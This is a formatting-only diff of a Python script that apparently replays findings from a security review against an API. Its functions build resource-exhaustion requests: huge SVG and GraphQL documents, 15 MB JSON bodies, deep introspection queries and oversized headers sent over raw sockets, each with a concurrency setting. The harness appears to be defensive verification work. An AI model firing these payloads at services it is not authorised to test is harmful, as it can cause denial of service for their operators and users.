@@ -21,8 +21,15 @@ SVG_NS = "http://www.w3.org/2000/svg"
 RECT = '<rect width="1" height="1"/>'
 WALK = "__schema { types { fields { type { ofType { ofType { name } } } } } }"
 # Requests under way at once, as the review measured each attack.
-CONCURRENCY = {"introspection": 12, "refused-parse": 2, "huge-document": 2, "big-body": 2,
-               "junk-parameters": 8, "long-queries": 8, "big-headers": 8}  # fmt: skip
+CONCURRENCY = {
+    "introspection": 12,
+    "refused-parse": 2,
+    "huge-document": 2,
+    "big-body": 2,
+    "junk-parameters": 8,
+    "long-queries": 8,
+    "big-headers": 8,
+}
 MAX_REQUESTS = 5000  # per attack run, whatever its time
 
 
@@ -35,23 +42,36 @@ def introspection(number: int) -> dict:
 def refused_parse(number: int) -> dict:
     """Finding 2: an 8 MB SVG refused (too many elements) by E10."""
     svg = f'<svg xmlns="{SVG_NS}">{RECT * 300_000}</svg>'.encode()
-    return {"method": "POST", "url": "/v1/maps/parse", "content": svg,
-            "headers": {"Content-Type": "image/svg+xml"}, "keyed": True}  # fmt: skip
+    return {
+        "method": "POST",
+        "url": "/v1/maps/parse",
+        "content": svg,
+        "headers": {"Content-Type": "image/svg+xml"},
+        "keyed": True,
+    }
 
 
 def huge_document(number: int) -> dict:
     """Finding 3: distinct 15 MB GraphQL documents."""
     padding = f"# {number} " + "x" * 15_000_000 + "\n"
-    return {"method": "POST", "url": "/graphql",
-            "json": {"query": padding + "{ assets { data { id } } }"}, "keyed": True}  # fmt: skip
+    return {
+        "method": "POST",
+        "url": "/graphql",
+        "json": {"query": padding + "{ assets { data { id } } }"},
+        "keyed": True,
+    }
 
 
 def big_body(number: int) -> dict:
     """Finding 4: a 15 MB JSON body to E21."""
     item = {"group_id": "g", "attribute_id": "a", "asset_id": "s", "unit_id": f"u{number}"}
-    return {"method": "PUT", "url": "/v1/units/attribute-groups/g/units",
-            "json": {"data": [item] * 170_000}, "keyed": True,
-            "headers": {"Experimental-Flags": "unit-attributes-resource"}}  # fmt: skip
+    return {
+        "method": "PUT",
+        "url": "/v1/units/attribute-groups/g/units",
+        "json": {"data": [item] * 170_000},
+        "keyed": True,
+        "headers": {"Experimental-Flags": "unit-attributes-resource"},
+    }
 
 
 def junk_parameters(number: int) -> dict:
@@ -106,8 +126,10 @@ def big_headers(base: str, ca: str, seconds: float) -> int:
     sent = 0
 
     def one() -> None:
-        with socket.create_connection((parts.hostname, parts.port), timeout=10) as raw, \
-                context.wrap_socket(raw, server_hostname=parts.hostname) as sock:  # fmt: skip
+        with (
+            socket.create_connection((parts.hostname, parts.port), timeout=10) as raw,
+            context.wrap_socket(raw, server_hostname=parts.hostname) as sock,
+        ):
             sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Big: ")
             try:
                 for _ in range(16):
@@ -144,4 +166,3 @@ def main(argv: list[str]) -> None:
 
 if __name__ == "__main__":
     main(sys.argv[1:])
-
